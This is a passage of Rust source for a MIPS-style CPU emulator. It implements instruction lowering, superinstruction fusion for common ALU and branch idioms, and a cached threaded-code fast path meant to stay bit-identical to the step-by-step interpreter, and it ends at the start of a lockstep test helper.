    /// targets its own head (a self-loop) it keeps iterating without
    /// re-dispatching until the branch falls through or the budget runs
    /// out. Degrades to the addiu alone on a short budget.
    #[allow(clippy::missing_docs_in_private_items)]
    AddAddXorBne {
        d1: u8,
        s1: u8,
        imm: u32,
        d2: u8,
        s2: u8,
        t2: u8,
        d3: u8,
        s3: u8,
        t3: u8,
        rs: u8,
        rt: u8,
        target: u32,
    },
    /// Sentinel one past the segment's last word: leave the fast path
    /// (the oracle faults or continues in another segment).
    Leave,
}

/// Operation selector for a fused pure-ALU component ([`Alu`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum AluK {
    Addu,
    Subu,
    And,
    Or,
    Xor,
    Nor,
    Slt,
    Sltu,
    Sll,
    Srl,
    Sra,
    Sllv,
    Srlv,
    Addiu,
    Slti,
    Sltiu,
    Andi,
    Ori,
    Xori,
    Lui,
}

/// One pure-ALU component of a fused sequence: reads `s`/`t`, writes
/// `d`, cannot fault, touch memory, hi/lo, or control flow. `imm`
/// doubles as the shift amount for `Sll`/`Srl`/`Sra` and carries the
/// pre-shifted constant for `Lui`; it is pre-sign- or zero-extended
/// exactly as [`lower`] does for the plain op.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub struct Alu {
    pub k: AluK,
    pub d: u8,
    pub s: u8,
    pub t: u8,
    pub imm: u32,
}

/// Execute one fused ALU component against the register file.
#[inline(always)]
fn alu_eval(regs: &mut [u32; 32], op: Alu) {
    let s = regs[(op.s & 31) as usize];
    let t = regs[(op.t & 31) as usize];
    let v = match op.k {
        AluK::Addu => s.wrapping_add(t),
        AluK::Subu => s.wrapping_sub(t),
        AluK::And => s & t,
        AluK::Or => s | t,
        AluK::Xor => s ^ t,
        AluK::Nor => !(s | t),
        AluK::Slt => ((s as i32) < (t as i32)) as u32,
        AluK::Sltu => (s < t) as u32,
        AluK::Sll => t << (op.imm & 31),
        AluK::Srl => t >> (op.imm & 31),
        AluK::Sra => ((t as i32) >> (op.imm & 31)) as u32,
        AluK::Sllv => t << (s & 31),
        AluK::Srlv => t >> (s & 31),
        AluK::Addiu => s.wrapping_add(op.imm),
        AluK::Slti => ((s as i32) < (op.imm as i32)) as u32,
        AluK::Sltiu => (s < op.imm) as u32,
        AluK::Andi => s & op.imm,
        AluK::Ori => s | op.imm,
        AluK::Xori => s ^ op.imm,
        AluK::Lui => op.imm,
    };
    regs[(op.d & 31) as usize] = v;
    // Branchless $zero sink, as in the main loop's `wr!`.
    regs[0] = 0;
}

/// The pure-ALU subset eligible for fusion, as an [`Alu`] component.
fn as_alu(op: Op) -> Option<Alu> {
    let (k, d, s, t, imm) = match op {
        Op::Addu { rd, rs, rt } => (AluK::Addu, rd, rs, rt, 0),
        Op::Subu { rd, rs, rt } => (AluK::Subu, rd, rs, rt, 0),
        Op::And { rd, rs, rt } => (AluK::And, rd, rs, rt, 0),
        Op::Or { rd, rs, rt } => (AluK::Or, rd, rs, rt, 0),
        Op::Xor { rd, rs, rt } => (AluK::Xor, rd, rs, rt, 0),
        Op::Nor { rd, rs, rt } => (AluK::Nor, rd, rs, rt, 0),
        Op::Slt { rd, rs, rt } => (AluK::Slt, rd, rs, rt, 0),
        Op::Sltu { rd, rs, rt } => (AluK::Sltu, rd, rs, rt, 0),
        Op::Sll { rd, rt, sh } => (AluK::Sll, rd, 0, rt, u32::from(sh)),
        Op::Srl { rd, rt, sh } => (AluK::Srl, rd, 0, rt, u32::from(sh)),
        Op::Sra { rd, rt, sh } => (AluK::Sra, rd, 0, rt, u32::from(sh)),
        Op::Sllv { rd, rt, rs } => (AluK::Sllv, rd, rs, rt, 0),
        Op::Srlv { rd, rt, rs } => (AluK::Srlv, rd, rs, rt, 0),
        Op::Addiu { rt, rs, imm } => (AluK::Addiu, rt, rs, 0, imm),
        Op::Slti { rt, rs, imm } => (AluK::Slti, rt, rs, 0, imm as u32),
        Op::Sltiu { rt, rs, imm } => (AluK::Sltiu, rt, rs, 0, imm),
        Op::Andi { rt, rs, imm } => (AluK::Andi, rt, rs, 0, imm),
        Op::Ori { rt, rs, imm } => (AluK::Ori, rt, rs, 0, imm),
        Op::Xori { rt, rs, imm } => (AluK::Xori, rt, rs, 0, imm),
        Op::Lui { rt, val } => (AluK::Lui, rt, 0, 0, val),
        _ => return None,
    };
    Some(Alu { k, d, s, t, imm })
}

/// A predecoded view of the executable segment, invalidated by
/// `Memory::code_version` whenever anything stores into it.
#[derive(Debug, Clone)]
pub struct ExecCache {
    base: u32,
    end: u32,
    /// One op per text word, plus the trailing [`Op::Leave`] sentinel.
    ops: Vec<Op>,
    /// `Memory::code_version` the ops were decoded at.
    version: u64,
}

impl ExecCache {
    /// Predecode the segment containing `entry` and register it as the
    /// memory's code-watch range. `None` when `entry` is unmapped or the
    /// segment's base is not word-aligned (the oracle path still runs
    /// such programs; they just get no fast path).
    pub fn for_entry(mem: &mut Memory, entry: u32) -> Option<ExecCache> {
        let (base, len, _) = mem.segment_span(entry)?;
        if base % 4 != 0 {
            return None;
        }
        let end = base.wrapping_add(len & !3);
        mem.watch_code(base, end);
        let mut cache = ExecCache {
            base,
            end,
            ops: Vec::new(),
            version: mem.code_version(),
        };
        cache.decode_from(mem);
        Some(cache)
    }

    /// Re-decode from (possibly modified) memory and pick up its current
    /// code version.
    pub fn rebuild(&mut self, mem: &Memory) {
        self.decode_from(mem);
        self.version = mem.code_version();
    }

    /// Is `pc` a word inside the cached segment?
    #[inline]
    pub fn contains(&self, pc: u32) -> bool {
        pc >= self.base && pc < self.end && pc & 3 == 0
    }

    /// First address covered by the cache.
    pub fn base(&self) -> u32 {
        self.base
    }

    /// One past the last covered address.
    pub fn end(&self) -> u32 {
        self.end
    }

    fn decode_from(&mut self, mem: &Memory) {
        let code = mem
            .view(self.base, self.end - self.base)
            .expect("cached span stays mapped for the process lifetime");
        let insts = decode_all(code, self.base);
        let n = insts.len();
        self.ops.clear();
        self.ops.reserve(n + 1);
        for (i, inst) in insts.iter().enumerate() {
            let nop = i + 1 < n && insts[i + 1].word == 0;
            self.ops.push(lower(inst, nop));
        }
        fuse(&mut self.ops, self.base);
        self.ops.push(Op::Leave);
    }
}

/// Lower one decoded instruction to an [`Op`], replicating exactly the
/// legal/illegal split of `Cpu::step`. `nop` is true when the following
/// word is `nop` (only meaningful for control transfers).
fn lower(inst: &Inst, nop: bool) -> Op {
    let word = inst.word;
    let (rs, rt, rd, sh) = (inst.rs(), inst.rt(), inst.rd(), inst.shamt());
    let zx = u32::from(inst.imm());
    let sx = inst.simm() as i32 as u32;
    let target = match inst.flow {
        Flow::Branch(t) | Flow::Jump(t) | Flow::Call(t) => t,
        _ => 0,
    };
    match inst.op() {
        0 => match inst.funct() {
            0x00 => Op::Sll { rd, rt, sh },
            0x02 => Op::Srl { rd, rt, sh },
            0x03 => Op::Sra { rd, rt, sh },
            0x04 => Op::Sllv { rd, rt, rs },
            0x06 => Op::Srlv { rd, rt, rs },
            0x08 => Op::Jr { rs, nop },
            0x09 => Op::Jalr { rd, rs, nop },
            0x0c => Op::Syscall,
            0x0d => Op::Break,
            0x10 => Op::Mfhi { rd },
            0x12 => Op::Mflo { rd },
            0x18 => Op::Mult { rs, rt },
            0x19 => Op::Multu { rs, rt },
            0x1a => Op::Div { rs, rt },
            0x1b => Op::Divu { rs, rt },
            0x21 => Op::Addu { rd, rs, rt },
            0x23 => Op::Subu { rd, rs, rt },
            0x24 => Op::And { rd, rs, rt },
            0x25 => Op::Or { rd, rs, rt },
            0x26 => Op::Xor { rd, rs, rt },
            0x27 => Op::Nor { rd, rs, rt },
            0x2a => Op::Slt { rd, rs, rt },
            0x2b => Op::Sltu { rd, rs, rt },
            _ => Op::Illegal { word },
        },
        0x01 => match rt {
            0 => Op::Bltz { rs, target, nop },
            1 => Op::Bgez { rs, target, nop },
            _ => Op::Illegal { word },
        },
        0x02 => Op::J { target, nop },
        0x03 => Op::Jal { target, nop },
        0x04 => Op::Beq {
            rs,
            rt,
            target,
            nop,
        },
        0x05 => Op::Bne {
            rs,
            rt,
            target,
            nop,
        },
        0x06 => Op::Blez { rs, target, nop },
        0x07 => Op::Bgtz { rs, target, nop },
        0x08 | 0x09 => Op::Addiu { rt, rs, imm: sx },
        0x0a => Op::Slti {
            rt,
            rs,
            imm: sx as i32,
        },
        0x0b => Op::Sltiu { rt, rs, imm: sx },
        0x0c => Op::Andi { rt, rs, imm: zx },
        0x0d => Op::Ori { rt, rs, imm: zx },
        0x0e => Op::Xori { rt, rs, imm: zx },
        0x0f => Op::Lui { rt, val: zx << 16 },
        0x20 => Op::Lb { rt, rs, off: sx },
        0x21 => Op::Lh { rt, rs, off: sx },
        0x23 => Op::Lw { rt, rs, off: sx },
        0x24 => Op::Lbu { rt, rs, off: sx },
        0x25 => Op::Lhu { rt, rs, off: sx },
        0x28 => Op::Sb { rt, rs, off: sx },
        0x29 => Op::Sh { rt, rs, off: sx },
        0x2b => Op::Sw { rt, rs, off: sx },
        _ => Op::Illegal { word },
    }
}

/// Rewrite head words of recognized idioms into superinstructions. The
/// component words at `i+1..` keep their plain ops, so control entering
/// mid-sequence still sees the legacy instruction stream.
///
/// Fused sequences never span a basic-block *leader* (a statically
/// known branch target, or the fall-through resumption point past a
/// control transfer's delay slot): entering mid-pair is always correct
/// (the component op is plain), but a hot loop whose head got consumed
/// as the tail of the preceding block's pair would run unfused forever.
/// Aligning fusion to leaders keeps back-edges landing on fused heads.
fn fuse(ops: &mut [Op], base: u32) {
    let n = ops.len();
    let mut leader = vec![false; n];
    for i in 0..n {
        let target = match ops[i] {
            Op::Beq { target, .. }
            | Op::Bne { target, .. }
            | Op::Blez { target, .. }
            | Op::Bgtz { target, .. }
            | Op::Bltz { target, .. }
            | Op::Bgez { target, .. }
            | Op::J { target, .. }
            | Op::Jal { target, .. } => Some(target),
            // Jr/Jalr targets are runtime values; entering a pair's
            // component word stays correct, just undispatched as a pair.
            _ => None,
        };
        if let Some(t) = target {
            if t >= base && t & 3 == 0 {
                let k = ((t - base) >> 2) as usize;
                if k < n {
                    leader[k] = true;
                }
            }
            if i + 2 < n {
                leader[i + 2] = true;
            }
        }
    }
    let mut i = 0;
    while i + 1 < n {
        if leader[i + 1] {
            // Nothing two-wide can start here without spanning a block
            // boundary.
            i += 1;
            continue;
        }
        match (ops[i], ops[i + 1]) {
            (
                Op::Lui { rt, val },
                Op::Ori {
                    rt: ort,
                    rs: ors,
                    imm,
                },
            ) if ort == rt && ors == rt => {
                let full = val | imm;
                if i + 2 < n && !leader[i + 2] && ops[i + 2] == Op::Syscall {
                    ops[i] = Op::LiSyscall {
                        rt,
                        hi: val,
                        val: full,
                    };
                    i += 3;
                } else {
                    ops[i] = Op::LiPair {
                        rt,
                        hi: val,
                        val: full,
                    };
                    i += 2;
                }
            }
            (
                Op::Addiu { rt, rs, imm },
                Op::Bne {
                    rs: brs,
                    rt: brt,
                    target,
                    nop: true,
                },
            ) if rs == rt && !leader[i + 2] => {
                // `nop: true` implies the word at i+2 exists and is nop.
                ops[i] = Op::CountBne {
                    rt,
                    imm,
                    rs: brs,
                    rt2: brt,
                    target,
                };
                i += 3;
            }
            _ => {
                // The stub's mix busy-loop body — induction, accumulate,
                // mix, back-edge — fuses whole when no branch lands
                // inside it (`nop: true` on the bne implies the delay
                // slot at i+4 exists).
                if i + 4 < n && !leader[i + 2] && !leader[i + 3] && !leader[i + 4] {
                    if let (Some(a), Some(b), Some(c)) =
                        (as_alu(ops[i]), as_alu(ops[i + 1]), as_alu(ops[i + 2]))
                    {
                        if let Op::Bne {
                            rs,
                            rt,
                            target,
                            nop: true,
                        } = ops[i + 3]
                        {
                            if a.k == AluK::Addiu && b.k == AluK::Addu && c.k == AluK::Xor {
                                ops[i] = Op::AddAddXorBne {
                                    d1: a.d,
                                    s1: a.s,
                                    imm: a.imm,
                                    d2: b.d,
                                    s2: b.s,
                                    t2: b.t,
                                    d3: c.d,
                                    s3: c.s,
                                    t3: c.t,
                                    rs,
                                    rt,
                                    target,
                                };
                                i += 5;
                                continue;
                            }
                        }
                    }
                }
                // Generalized back-edge: any pure-ALU op feeding a bne
                // with a nop delay slot (`nop: true` implies the word at
                // i+2 exists and is the nop).
                if let Op::Bne {
                    rs,
                    rt,
                    target,
                    nop: true,
                } = ops[i + 1]
                {
                    // `nop: true` implies the word at i+2 exists.
                    if !leader[i + 2] {
                        if let Some(a) = as_alu(ops[i]) {
                            // Dispatch-free variant for the hot kind.
                            ops[i] = if a.k == AluK::Xor {
                                Op::XorBne {
                                    d: a.d,
                                    s: a.s,
                                    t: a.t,
                                    rs,
                                    rt,
                                    target,
                                }
                            } else {
                                Op::AluBne { a, rs, rt, target }
                            };
                            i += 3;
                            continue;
                        }
                    }
                }
                // Any two adjacent pure-ALU ops pair into one dispatch;
                // the dominant induction-plus-arith pair gets the
                // dispatch-free variant.
                if let (Some(a), Some(b)) = (as_alu(ops[i]), as_alu(ops[i + 1])) {
                    ops[i] = if a.k == AluK::Addiu && b.k == AluK::Addu {
                        Op::AddiuAddu {
                            d1: a.d,
                            s1: a.s,
                            imm: a.imm,
                            d2: b.d,
                            s2: b.s,
                            t2: b.t,
                        }
                    } else {
                        Op::Alu2 { a, b }
                    };
                    i += 2;
                    continue;
                }
                i += 1;
            }
        }
    }
}

impl Cpu {
    /// Run until a syscall, a fault, or `budget` retired instructions,
    /// using `cache` for threaded-code dispatch wherever the program
    /// stays regular and falling back to [`Cpu::step`] (the oracle) for
    /// everything else. State transitions — registers, memory, `retired`,
    /// `pc`, pending branch, fault identity — are bit-identical to
    /// running `Cpu::run(budget)`.
    pub fn run_cached(
        &mut self,
        budget: u64,
        cache: &mut ExecCache,
    ) -> Result<Option<StepOutcome>, CpuError> {
        let mut remaining = budget;
        'outer: loop {
            if remaining == 0 {
                return Ok(None);
            }
            if cache.version != self.mem.code_version() {
                cache.rebuild(&self.mem);
            }
            // Oracle path: mid-delay-slot, or PC outside the cache.
            while self.pending_branch.is_some() || !cache.contains(self.pc) {
                match self.step()? {
                    StepOutcome::Syscall => return Ok(Some(StepOutcome::Syscall)),
                    StepOutcome::Continue => {
                        remaining -= 1;
                        if remaining == 0 {
                            return Ok(None);
                        }
                        if cache.version != self.mem.code_version() {
                            cache.rebuild(&self.mem);
                        }
                    }
                }
            }
            let base = cache.base;
            let mut pc = self.pc;
            let mut idx = ((pc - base) >> 2) as usize;
            // Instructions retired inside the fast loop are counted by
            // how much budget they consumed (`entered - remaining`) and
            // flushed to `self.retired` only at exits, keeping the
            // per-op bookkeeping in registers.
            let entered = remaining;

            // Masked register-file access: every operand index is a
            // 5-bit field by construction, and the `& 31` lets the
            // bounds check fold away. Writes preserve the $zero sink.
            macro_rules! rr {
                ($r:expr) => {
                    self.regs[($r & 31) as usize]
                };
            }
            macro_rules! wr {
                ($r:expr, $v:expr) => {{
                    let v = $v;
                    self.regs[($r & 31) as usize] = v;
                    // Branchless $zero sink: unconditionally re-zero r0
                    // instead of testing the destination on every write.
                    self.regs[0] = 0;
                }};
            }
            // The tail of a straight-line op: move to the next word.
            macro_rules! adv {
                () => {{
                    remaining -= 1;
                    pc = pc.wrapping_add(4);
                    idx += 1;
                }};
            }
            // Faults replicate `step`: PC already advanced, the
            // faulting instruction counted as retired.
            macro_rules! fault {
                ($e:expr) => {{
                    self.retired += entered - remaining + 1;
                    self.pc = pc.wrapping_add(4);
                    return Err($e);
                }};
            }
            // A branch/jump: when the delay slot is a nop and the budget
            // covers both, retire branch+slot and jump directly;
            // otherwise set the architectural pending branch and let the
            // oracle execute the delay slot.
            macro_rules! control {
                ($taken:expr, $target:expr, $nop:expr) => {{
                    if $nop && remaining >= 2 {
                        remaining -= 2;
                        pc = if $taken { $target } else { pc.wrapping_add(8) };
                        if !cache.contains(pc) {
                            self.pc = pc;
                            self.retired += entered - remaining;
                            continue 'outer;
                        }
                        idx = ((pc - base) >> 2) as usize;
                    } else {
                        remaining -= 1;
                        self.pending_branch = if $taken { Some($target) } else { None };
                        self.pc = pc.wrapping_add(4);
                        self.retired += entered - remaining;
                        continue 'outer;
                    }
                }};
            }
            // Handler peeking at back-edges: taken fused branches land
            // on a block head, and in hot loops that head is the fused
            // induction pair. Executing it inline here (a cheap
            // discriminant test, a direct conditional branch) keeps the
            // main `match` site seeing one variant per loop, so its
            // indirect branch stays predicted instead of alternating.
            macro_rules! peek {
                () => {
                    if remaining >= 2 {
                        if let Op::AddiuAddu {
                            d1,
                            s1,
                            imm,
                            d2,
                            s2,
                            t2,
                        } = cache.ops[idx]
                        {
                            let v = rr!(s1).wrapping_add(imm);
                            wr!(d1, v);
                            let v2 = rr!(s2).wrapping_add(rr!(t2));
                            wr!(d2, v2);
                            remaining -= 2;
                            pc = pc.wrapping_add(8);
                            idx += 2;
                        }
                    }
                };
            }

            loop {
                if remaining == 0 {
                    self.pc = pc;
                    self.retired += entered;
                    return Ok(None);
                }
                match cache.ops[idx] {
                    Op::Alu2 { a, b } => {
                        if remaining >= 2 {
                            alu_eval(&mut self.regs, a);
                            alu_eval(&mut self.regs, b);
                            remaining -= 2;
                            pc = pc.wrapping_add(8);
                            idx += 2;
                        } else {
                            // Budget covers only the first component; the
                            // plain op at idx+1 runs on the next call.
                            alu_eval(&mut self.regs, a);
                            adv!();
                        }
                    }
                    Op::AluBne { a, rs, rt, target } => {
                        if remaining >= 3 {
                            alu_eval(&mut self.regs, a);
                            // The bne reads post-ALU values, exactly as
                            // the sequential stream would.
                            let taken = rr!(rs) != rr!(rt);
                            remaining -= 3;
                            pc = if taken { target } else { pc.wrapping_add(12) };
                            if !cache.contains(pc) {
                                self.pc = pc;
                                self.retired += entered - remaining;
                                continue 'outer;
                            }
                            idx = ((pc - base) >> 2) as usize;
                            peek!();
                        } else {
                            alu_eval(&mut self.regs, a);
                            adv!();
                        }
                    }
                    Op::AddiuAddu {
                        d1,
                        s1,
                        imm,
                        d2,
                        s2,
                        t2,
                    } => {
                        let v = rr!(s1).wrapping_add(imm);
                        wr!(d1, v);
                        if remaining >= 2 {
                            let v2 = rr!(s2).wrapping_add(rr!(t2));
                            wr!(d2, v2);
                            remaining -= 2;
                            pc = pc.wrapping_add(8);
                            idx += 2;
                        } else {
                            adv!();
                        }
                    }
                    Op::XorBne {
                        d,
                        s,
                        t,
                        rs,
                        rt,
                        target,
                    } => {
                        let v = rr!(s) ^ rr!(t);
                        wr!(d, v);
                        if remaining >= 3 {
                            // The bne reads post-xor values, exactly as
                            // the sequential stream would.
                            let taken = rr!(rs) != rr!(rt);
                            remaining -= 3;
                            pc = if taken { target } else { pc.wrapping_add(12) };
                            if !cache.contains(pc) {
                                self.pc = pc;
                                self.retired += entered - remaining;
                                continue 'outer;
                            }
                            idx = ((pc - base) >> 2) as usize;
                            peek!();
                        } else {
                            adv!();
                        }
                    }
                    Op::AddAddXorBne {
                        d1,
                        s1,
                        imm,
                        d2,
                        s2,
                        t2,
                        d3,
                        s3,
                        t3,
                        rs,
                        rt,
                        target,
                    } => {
                        if remaining >= 5 {
                            let head = pc;
                            loop {
                                let v = rr!(s1).wrapping_add(imm);
                                wr!(d1, v);
                                let v2 = rr!(s2).wrapping_add(rr!(t2));
                                wr!(d2, v2);
                                let v3 = rr!(s3) ^ rr!(t3);
                                wr!(d3, v3);
                                // The bne reads post-ALU values, exactly
                                // as the sequential stream would.
                                let taken = rr!(rs) != rr!(rt);
                                remaining -= 5;
                                pc = if taken { target } else { head.wrapping_add(20) };
                                // Self-loop: iterate in place while the
                                // budget holds, no re-dispatch.
                                if !(taken && target == head && remaining >= 5) {
                                    break;
                                }
                            }
                            if !cache.contains(pc) {
                                self.pc = pc;
                                self.retired += entered - remaining;
                                continue 'outer;
                            }
                            idx = ((pc - base) >> 2) as usize;
                        } else {
                            let v = rr!(s1).wrapping_add(imm);
                            wr!(d1, v);
                            adv!();
                        }
                    }
                    Op::Addiu { rt, rs, imm } => {
                        let v = rr!(rs).wrapping_add(imm);
                        wr!(rt, v);
                        adv!();
                    }
                    Op::Addu { rd, rs, rt } => {
                        let v = rr!(rs).wrapping_add(rr!(rt));
                        wr!(rd, v);
                        adv!();
                    }
                    Op::Subu { rd, rs, rt } => {
                        let v = rr!(rs).wrapping_sub(rr!(rt));
                        wr!(rd, v);
                        adv!();
                    }
                    Op::And { rd, rs, rt } => {
                        let v = rr!(rs) & rr!(rt);
                        wr!(rd, v);
                        adv!();
                    }
                    Op::Or { rd, rs, rt } => {
                        let v = rr!(rs) | rr!(rt);
                        wr!(rd, v);
                        adv!();
                    }
                    Op::Xor { rd, rs, rt } => {
                        let v = rr!(rs) ^ rr!(rt);
                        wr!(rd, v);
                        adv!();
                    }
                    Op::Nor { rd, rs, rt } => {
                        let v = !(rr!(rs) | rr!(rt));
                        wr!(rd, v);
                        adv!();
                    }
                    Op::Slt { rd, rs, rt } => {
                        let v = ((rr!(rs) as i32) < (rr!(rt) as i32)) as u32;
                        wr!(rd, v);
                        adv!();
                    }
                    Op::Sltu { rd, rs, rt } => {
                        let v = (rr!(rs) < rr!(rt)) as u32;
                        wr!(rd, v);
                        adv!();
                    }
                    Op::Sll { rd, rt, sh } => {
                        let v = rr!(rt) << sh;
                        wr!(rd, v);
                        adv!();
                    }
                    Op::Srl { rd, rt, sh } => {
                        let v = rr!(rt) >> sh;
                        wr!(rd, v);
                        adv!();
                    }
                    Op::Sra { rd, rt, sh } => {
                        let v = ((rr!(rt) as i32) >> sh) as u32;
                        wr!(rd, v);
                        adv!();
                    }
                    Op::Sllv { rd, rt, rs } => {
                        let v = rr!(rt) << (rr!(rs) & 31);
                        wr!(rd, v);
                        adv!();
                    }
                    Op::Srlv { rd, rt, rs } => {
                        let v = rr!(rt) >> (rr!(rs) & 31);
                        wr!(rd, v);
                        adv!();
                    }
                    Op::Slti { rt, rs, imm } => {
                        let v = ((rr!(rs) as i32) < imm) as u32;
                        wr!(rt, v);
                        adv!();
                    }
                    Op::Sltiu { rt, rs, imm } => {
                        let v = (rr!(rs) < imm) as u32;
                        wr!(rt, v);
                        adv!();
                    }
                    Op::Andi { rt, rs, imm } => {
                        let v = rr!(rs) & imm;
                        wr!(rt, v);
                        adv!();
                    }
                    Op::Ori { rt, rs, imm } => {
                        let v = rr!(rs) | imm;
                        wr!(rt, v);
                        adv!();
                    }
                    Op::Xori { rt, rs, imm } => {
                        let v = rr!(rs) ^ imm;
                        wr!(rt, v);
                        adv!();
                    }
                    Op::Lui { rt, val } => {
                        wr!(rt, val);
                        adv!();
                    }
                    Op::Mfhi { rd } => {
                        let v = self.hi;
                        wr!(rd, v);
                        adv!();
                    }
                    Op::Mflo { rd } => {
                        let v = self.lo;
                        wr!(rd, v);
                        adv!();
                    }
                    Op::Mult { rs, rt } => {
                        let p = i64::from(rr!(rs) as i32) * i64::from(rr!(rt) as i32);
                        self.lo = p as u32;
                        self.hi = (p >> 32) as u32;
                        adv!();
                    }
                    Op::Multu { rs, rt } => {
                        let p = u64::from(rr!(rs)) * u64::from(rr!(rt));
                        self.lo = p as u32;
                        self.hi = (p >> 32) as u32;
                        adv!();
                    }
                    Op::Div { rs, rt } => {
                        let d = rr!(rt) as i32;
                        if d == 0 {
                            fault!(CpuError::DivideByZero { pc });
                        }
                        let n = rr!(rs) as i32;
                        self.lo = n.wrapping_div(d) as u32;
                        self.hi = n.wrapping_rem(d) as u32;
                        adv!();
                    }
                    Op::Divu { rs, rt } => {
                        let d = rr!(rt);
                        if d == 0 {
                            fault!(CpuError::DivideByZero { pc });
                        }
                        let n = rr!(rs);
                        self.lo = n / d;
                        self.hi = n % d;
                        adv!();
                    }
                    Op::Lb { rt, rs, off } => {
                        let a = rr!(rs).wrapping_add(off);
                        match self.mem.read_u8(a) {
                            Ok(v) => wr!(rt, v as i8 as i32 as u32),
                            Err(e) => fault!(e.into()),
                        }
                        adv!();
                    }
                    Op::Lh { rt, rs, off } => {
                        let a = rr!(rs).wrapping_add(off);
                        match self.mem.read_u16(a) {
                            Ok(v) => wr!(rt, v as i16 as i32 as u32),
                            Err(e) => fault!(e.into()),
                        }
                        adv!();
                    }
                    Op::Lw { rt, rs, off } => {
                        let a = rr!(rs).wrapping_add(off);
                        match self.mem.read_u32(a) {
                            Ok(v) => wr!(rt, v),
                            Err(e) => fault!(e.into()),
                        }
                        adv!();
                    }
                    Op::Lbu { rt, rs, off } => {
                        let a = rr!(rs).wrapping_add(off);
                        match self.mem.read_u8(a) {
                            Ok(v) => wr!(rt, u32::from(v)),
                            Err(e) => fault!(e.into()),
                        }
                        adv!();
                    }
                    Op::Lhu { rt, rs, off } => {
                        let a = rr!(rs).wrapping_add(off);
                        match self.mem.read_u16(a) {
                            Ok(v) => wr!(rt, u32::from(v)),
                            Err(e) => fault!(e.into()),
                        }
                        adv!();
                    }
                    Op::Sb { rt, rs, off } => {
                        let a = rr!(rs).wrapping_add(off);
                        if let Err(e) = self.mem.write_u8(a, rr!(rt) as u8) {
                            fault!(e.into());
                        }
                        remaining -= 1;
                        pc = pc.wrapping_add(4);
                        if cache.version != self.mem.code_version() {
                            self.pc = pc;
                            self.retired += entered - remaining;
                            continue 'outer;
                        }
                        idx += 1;
                    }
                    Op::Sh { rt, rs, off } => {
                        let a = rr!(rs).wrapping_add(off);
                        if let Err(e) = self.mem.write_u16(a, rr!(rt) as u16) {
                            fault!(e.into());
                        }
                        remaining -= 1;
                        pc = pc.wrapping_add(4);
                        if cache.version != self.mem.code_version() {
                            self.pc = pc;
                            self.retired += entered - remaining;
                            continue 'outer;
                        }
                        idx += 1;
                    }
                    Op::Sw { rt, rs, off } => {
                        let a = rr!(rs).wrapping_add(off);
                        if let Err(e) = self.mem.write_u32(a, rr!(rt)) {
                            fault!(e.into());
                        }
                        remaining -= 1;
                        pc = pc.wrapping_add(4);
                        if cache.version != self.mem.code_version() {
                            self.pc = pc;
                            self.retired += entered - remaining;
                            continue 'outer;
                        }
                        idx += 1;
                    }
                    Op::Beq {
                        rs,
                        rt,
                        target,
                        nop,
                    } => {
                        control!(rr!(rs) == rr!(rt), target, nop);
                    }
                    Op::Bne {
                        rs,
                        rt,
                        target,
                        nop,
                    } => {
                        control!(rr!(rs) != rr!(rt), target, nop);
                    }
                    Op::Blez { rs, target, nop } => {
                        control!((rr!(rs) as i32) <= 0, target, nop);
                    }
                    Op::Bgtz { rs, target, nop } => {
                        control!((rr!(rs) as i32) > 0, target, nop);
                    }
                    Op::Bltz { rs, target, nop } => {
                        control!((rr!(rs) as i32) < 0, target, nop);
                    }
                    Op::Bgez { rs, target, nop } => {
                        control!((rr!(rs) as i32) >= 0, target, nop);
                    }
                    Op::J { target, nop } => {
                        control!(true, target, nop);
                    }
                    Op::Jal { target, nop } => {
                        wr!(31, pc.wrapping_add(8));
                        control!(true, target, nop);
                    }
                    Op::Jr { rs, nop } => {
                        let target = rr!(rs);
                        control!(true, target, nop);
                    }
                    Op::Jalr { rd, rs, nop } => {
                        // Target is read before the link write, as in step().
                        let target = rr!(rs);
                        wr!(rd, pc.wrapping_add(8));
                        control!(true, target, nop);
                    }
                    Op::Syscall => {
                        self.retired += entered - remaining + 1;
                        self.pc = pc.wrapping_add(4);
                        return Ok(Some(StepOutcome::Syscall));
                    }
                    Op::Break => {
                        self.retired += entered - remaining + 1;
                        self.pc = pc.wrapping_add(4);
                        return Err(CpuError::Break { pc });
                    }
                    Op::Illegal { word } => {
                        self.retired += entered - remaining + 1;
                        self.pc = pc.wrapping_add(4);
                        return Err(CpuError::IllegalInstruction { pc, word });
                    }
                    Op::LiPair { rt, hi, val } => {
                        if remaining >= 2 {
                            wr!(rt, val);
                            remaining -= 2;
                            pc = pc.wrapping_add(8);
                            idx += 2;
                        } else {
                            // Budget covers only the lui; the plain ori
                            // at idx+1 runs on the next call.
                            wr!(rt, hi);
                            adv!();
                        }
                    }
                    Op::LiSyscall { rt, hi, val } => {
                        if remaining >= 3 {
                            wr!(rt, val);
                            self.retired += entered - remaining + 3;
                            self.pc = pc.wrapping_add(12);
                            return Ok(Some(StepOutcome::Syscall));
                        } else {
                            wr!(rt, hi);
                            adv!();
                        }
                    }
                    Op::CountBne {
                        rt,
                        imm,
                        rs,
                        rt2,
                        target,
                    } => {
                        let v = rr!(rt).wrapping_add(imm);
                        wr!(rt, v);
                        if remaining >= 3 {
                            // The bne reads post-increment values, as in
                            // the sequential stream.
                            let taken = rr!(rs) != rr!(rt2);
                            remaining -= 3;
                            pc = if taken { target } else { pc.wrapping_add(12) };
                            if !cache.contains(pc) {
                                self.pc = pc;
                                self.retired += entered - remaining;
                                continue 'outer;
                            }
                            idx = ((pc - base) >> 2) as usize;
                            peek!();
                        } else {
                            adv!();
                        }
                    }
                    Op::Leave => {
                        self.pc = pc;
                        self.retired += entered - remaining;
                        continue 'outer;
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::asm::{Assembler, Ins, Reg};
    use crate::cpu::{STACK_SIZE, STACK_TOP};

    fn setup(code: Vec<u8>, writable_text: bool) -> (Cpu, ExecCache) {
        let base = 0x0040_0000;
        let mut mem = Memory::new();
        mem.map(base, code, writable_text);
        mem.map_zeroed(0x1000_0000, 4096, true);
        mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
        let cache = ExecCache::for_entry(&mut mem, base).unwrap();
        (Cpu::new(mem, base), cache)
    }

    fn asm(build: impl FnOnce(&mut Assembler)) -> Vec<u8> {
        let mut a = Assembler::new(0x0040_0000);
        build(&mut a);
        a.assemble().unwrap()
    }

    /// Run the same program under step() and run_cached() with the same
    /// per-call budget and assert identical full state at every stop.
    fn lockstep(code: Vec<u8>, slice: u64, writable_text: bool) {
